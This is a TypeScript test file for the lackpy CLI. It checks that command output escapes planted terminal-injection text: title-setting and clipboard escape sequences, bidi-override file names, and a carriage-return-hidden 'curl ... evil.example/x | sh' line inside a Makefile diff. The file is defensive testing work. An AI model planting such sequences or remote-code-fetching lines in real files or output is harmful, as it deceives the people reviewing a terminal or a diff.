import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { closeWorkerPool } from "@lackpy/run/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { HOSTILE_BLOCK, HOSTILE_TEXTS, RAW_HOSTILE } from "./__fixtures__/hostile-texts.js";
import { memoryIo } from "./io/cli-io.js";
import { main } from "./main.js";

/**
 * Issue 35's terminal injection, on every command that prints: the hostile-text corpus is planted
 * in file contents, a file name, program output, a program's source, config values (a provider's
 * model, a server's arguments), a kit's description, a template's pattern and program, and an
 * export to import. Each command's human output holds none of it raw and shows the escaped form;
 * `--json` gives the exact text back.
 */
const TITLE = "\u001b]0;pwned\u0007";
const BIDI_NAME = "note\u202etxt.md";
const NEW_NAME = "new\u202egpj.exe";
const WRITE = `write_file("Makefile", "all:\\n" + read_file("hostile.txt"))
write_file(${JSON.stringify(NEW_NAME)}, read_file(${JSON.stringify(BIDI_NAME)}))
"written"`;

let root: string;

async function lackpy(args: string[], options: { answers?: string[]; stdin?: string } = {}) {
  const io = memoryIo({ cwd: root, ...options });
  const code = await main(args, io);
  return { code, out: io.out, err: io.err, all: io.out + io.err };
}

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), "lackpy-cli-hostile-"));
  await writeFile(path.join(root, "hostile.txt"), `${HOSTILE_BLOCK}\n`);
  await writeFile(path.join(root, BIDI_NAME), `${HOSTILE_BLOCK}\n`);
  await writeFile(
    path.join(root, "print.js"),
    'print(read_file("hostile.txt"))\nprint("a\\ud800b nul\\u0000")\nread_file("hostile.txt")\n',
  );
  await writeFile(path.join(root, "write.js"), WRITE);
  await writeFile(path.join(root, "bad.js"), `var x = "${TITLE}\u202e"\n`);
  await writeFile(path.join(root, "missing.js"), `read_file("gone${TITLE}.txt")\n`);
  await mkdir(path.join(root, "server"));
  await writeFile(path.join(root, "server", "index.mjs"), "process.exit(0)\n");
  await mkdir(path.join(root, ".lackpy", "kits"), { recursive: true });
  await mkdir(path.join(root, ".lackpy", "templates"), { recursive: true });
  await writeFile(
    path.join(root, ".lackpy", "config.toml"),
    `[run]\nmode = "in-process"\n\n[inference.providers.ollama]\nplugin = "ollama"\nmodel = "qwen\\u001b]0;pwned\\u0007\\u202e"\nhost = "http://127.0.0.1:9"\n\n[mcp_servers.evil]\ncommand = "node"\nargs = ["server/index.mjs", "--title=\\u001b]0;pwned\\u0007", "\\u202e"]\n`,
  );
  await writeFile(
    path.join(root, ".lackpy", "kits", "mine.kit"),
    `---\nname: mine\ndescription: reads ${TITLE} and \u202etxt.exe\n---\nread_file\n`,
  );
  await writeFile(
    path.join(root, ".lackpy", "templates", "greet.tmpl"),
    `---\nname: greet\npattern: "say hi to \\u202e{who}"\n---\n// ${TITLE}\nread_file("hostile.txt")\n`,
  );
  await writeFile(
    path.join(root, ".lackpy", "templates", "broken.tmpl"),
    `---\nname: broken\n${TITLE}\n---\n1\n`,
  );
});

afterAll(async () => {
  await closeWorkerPool();
  await rm(root, { recursive: true, force: true });
});

/** Each command, and an escaped text its output must show (proof that the hostile text was printed). */
const COMMANDS: readonly (readonly [string[], string])[] = [
  [["validate", "bad.js"], "␛]0;pwned\\x07\\u202e"],
  [["run", "print.js"], "\\r␛[2K+"],
  [["run", "print.js"], "a\\ud800b nul\\0"],
  [["run", "missing.js"], "␛]0;pwned"],
  [["run", "write.js", "--kit", "files", "--dry-run"], "\\r␛[2K+"],
  [["delegate", "read hostile.txt"], "␛]52;c;"],
  [["delegate", "say hi to \u202efriend"], "\\u202e"],
  [["generate", "read hostile.txt"], "hostile.txt"],
  [["status"], "␛]0;pwned"],
  [["trust"], "--title=␛]0;pwned\\x07"],
  [["kit", "list"], "␛]0;pwned"],
  [["kit", "info", "mine"], "read_file"],
  [["template", "list"], "say hi to \\u202e{who}"],
  [["template", "show", "greet"], "␛]0;pwned"],
  [["provider", "list"], "qwen␛]0;pwned"],
  [["create", "print.js", "--name", "hostile", "--pattern", "print \u202e{x}"], "\\u202e"],
  [["run", `gone${TITLE}.js`], "␛]0;pwned"],
  [["kit", "info", `nope${TITLE}`], "␛]0;pwned"],
  [["spec"], "lackpy"],
  [["--help"], "lackpy"],
  // Program output and file text cross a process boundary in isolated mode: the same corpus.
  [["run", "print.js", "--mode", "isolated"], "\\r␛[2K+"],
  [["run", "missing.js", "--mode", "isolated"], "␛]0;pwned"],
  [["run", "write.js", "--kit", "files", "--dry-run", "--mode", "isolated"], "\\r␛[2K+"],
  [["delegate", "read hostile.txt", "--mode", "isolated"], "␛]52;c;"],
];

describe("every command that prints, over the hostile-text corpus", () => {
  it.each(COMMANDS)("lackpy %j shows it escaped", async (args, shown) => {
    const { all } = await lackpy(args);
    expect(all).toContain(shown);
    expect(all).not.toMatch(RAW_HOSTILE);
  });

  it("shows an approval's diff escaped, so the person sees the carriage return that would land", async () => {
    const { all, code } = await lackpy(["run", "write.js", "--kit", "files", "--approve"], {
      answers: ["n", "n"],
    });
    expect(code).toBe(0);
    expect(all).toContain(
      "+\tcurl -s https://evil.example/x | sh # \\r␛[2K+\techo building --quiet",
    );
    expect(all).toContain("Create new\\u202egpj.exe?");
    expect(all).not.toMatch(RAW_HOSTILE);
  });

  it("shows what landed and what undo puts back with the file name escaped", async () => {
    const landed = await lackpy(["run", "write.js", "--kit", "files"]);
    expect(landed.all).toContain("new\\u202egpj.exe");
    expect(landed.all).not.toMatch(RAW_HOSTILE);
    const undone = await lackpy(["undo"]);
    expect(undone.code).toBe(0);
    expect(undone.all).toContain("new\\u202egpj.exe");
    expect(undone.all).not.toMatch(RAW_HOSTILE);
  });

  it("imports a document naming hostile text and reports it escaped", async () => {
    const document = JSON.stringify({
      lackpy: "store-export",
      version: 1,
      templates: [
        {
          name: "x",
          pattern: "say {a}",
          program: "1",
          origin: `robot${TITLE}`,
          successCount: 0,
          failCount: 0,
        },
      ],
    });
    await writeFile(path.join(root, "export.json"), document);
    const { all } = await lackpy(["store", "import", "export.json"]);
    expect(all).toContain("␛]0;pwned");
    expect(all).not.toMatch(RAW_HOSTILE);
  });
});

describe("--json over the same corpus", () => {
  it("gives the program's output and stdout back exactly", async () => {
    const { out } = await lackpy(["run", "print.js", "--json"]);
    const result = JSON.parse(out) as { output: string; stdout: string };
    const expected = `${HOSTILE_BLOCK}\n`;
    expect(result.output).toBe(expected);
    expect(result.stdout).toBe(`${expected}\na\ud800b nul\u0000\n`);
    for (const [, text] of HOSTILE_TEXTS)
      if (!text.includes("\u0000") && !text.includes("\ud800"))
        expect(result.output).toContain(text);
  });

  it("gives a diff back exactly", async () => {
    const { out } = await lackpy(["run", "write.js", "--kit", "files", "--dry-run", "--json"]);
    const result = JSON.parse(out) as { changes: { path: string; diff: string }[] };
    expect(result.changes.map((change) => change.path).sort()).toEqual(
      ["Makefile", NEW_NAME].sort(),
    );
    expect(result.changes.find((change) => change.path === "Makefile")!.diff).toContain(
      HOSTILE_TEXTS[0]![1],
    );
  });

  it("exports templates byte for byte", async () => {
    const { out } = await lackpy(["store", "export"]);
    const document = JSON.parse(out) as { templates: { name: string; pattern: string }[] };
    expect(document.templates.find((template) => template.name === "greet")!.pattern).toBe(
      "say hi to \u202e{who}",
    );
    expect(out).toContain("\u202e");
    expect(await readFile(path.join(root, "hostile.txt"), "utf8")).toBe(`${HOSTILE_BLOCK}\n`);
  });
});
